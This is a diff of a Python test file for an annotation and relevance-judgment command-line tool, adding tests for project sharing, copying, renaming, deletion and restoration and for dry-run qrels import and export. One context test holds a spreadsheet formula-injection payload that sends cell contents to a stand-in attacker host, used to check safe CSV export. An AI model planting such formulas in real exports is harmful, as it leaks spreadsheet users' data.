@@ -122,6 +122,32 @@ def agreement_is_measured_over_two_items(corpus: Path, split_on: str) -> None:
     assert "ann 3, bob 1" in run_inside(corpus, *command, "--disagreements").stdout
 
 
+def test_a_project_is_shared_out_copied_renamed_deleted_and_brought_back(
+    corpus: Path, tmp_path: Path
+) -> None:
+    queries = tmp_path / "queries.txt"
+    queries.write_text(f"{QUERY}\n", "utf-8")
+    people = ("--annotator", "ann", "--annotator", "bob", "--first", 2)
+    assert run_json(corpus, "project", "create", "small", "p", *people)["first"] == 2
+    run_json(corpus, "pool", "small", "--project", "p", "--depth", 3, "--queries", queries)
+    assign = ("project", "assign", "small", "p")
+    assert run_json(corpus, *assign, "--annotator", "bob")["assigned"] == {QUERY: ["bob"]}
+    assert "bob" in run_inside(corpus, "project", "show", "small", "p").stdout
+    assert run_json(corpus, *assign)["assigned"] == {}
+    assert run_json(corpus, *assign, "--evenly")["assigned"] == {QUERY: ["ann"]}
+    assert_refused(run_inside(corpus, *assign, "--query", "no"), "no query 'no'")
+    assert_refused(run_inside(corpus, *assign, "--evenly", "--query", QUERY), "--evenly")
+    agreed = run_inside(corpus, "agreement", "small", "--project", "p").stdout
+    assert agreed.startswith("2 items for everybody: 0 judged by both.")
+
+    assert run_json(corpus, "project", "rename", "small", "p", "q")["name"] == "q"
+    assert run_json(corpus, "project", "copy", "small", "q", "r")["assigned"] == {QUERY: ["ann"]}
+    assert run_json(corpus, "project", "delete", "small", "q") == {"deleted": "q"}
+    assert [p["name"] for p in run_json(corpus, "project", "list", "small")] == ["r"]
+    assert run_json(corpus, "project", "restore", "small", "q")["name"] == "q"
+    assert_refused(run_inside(corpus, "project", "copy", "small", "r", "q"), "project 'q' already")
+
+
 def test_csv_is_for_spreadsheets_where_it_is_asked_for(corpus: Path) -> None:
     formula = '=HYPERLINK("https://evil.example?"&A1)'
     run_json(corpus, "judge", "small", *ITEM, "--grade", 2, "--annotator", "ann", "--note", formula)
@@ -142,8 +168,16 @@ def test_qrels_are_exported_and_imported_and_a_broken_file_changes_nothing(
     written = run_json(corpus, "qrels", "export", "small", "--out", out)
     assert (written["files"], written["judgments"]) == ([str(out)], 2)
     import_ = ("qrels", "import", "small", out, "--annotator")
+    tried = run_json(corpus, "qrels", "export", "small", "--dry-run")
+    assert (tried["files"], tried["counts"]["people"]) == (["small.qrels"], {"ann": 2})
+    assert (
+        "Nothing imported: 2 would be added"
+        in run_inside(corpus, *import_, "bob", "--dry-run").stdout
+    )
     first = run_json(corpus, *import_, "bob")
-    assert first == {"added": 2, "known": 0, "conflicts": [], "warnings": []}
+    counts = {"judgments": 2, "people": {"bob": 2}, "items": 2, "grades": {"0": 1, "3": 1}}
+    done = {"added": 2, "known": 0, "conflicts": [], "warnings": [], "counts": counts}
+    assert first == {**done, "queries": 0, "project": ""}
     assert run_json(corpus, *import_, "bob")["known"] == 2
     out.write_text(f"{out.read_text()}one two\n")
     assert_refused(run_inside(corpus, *import_, "eve"), "small.qrels", "line 3")
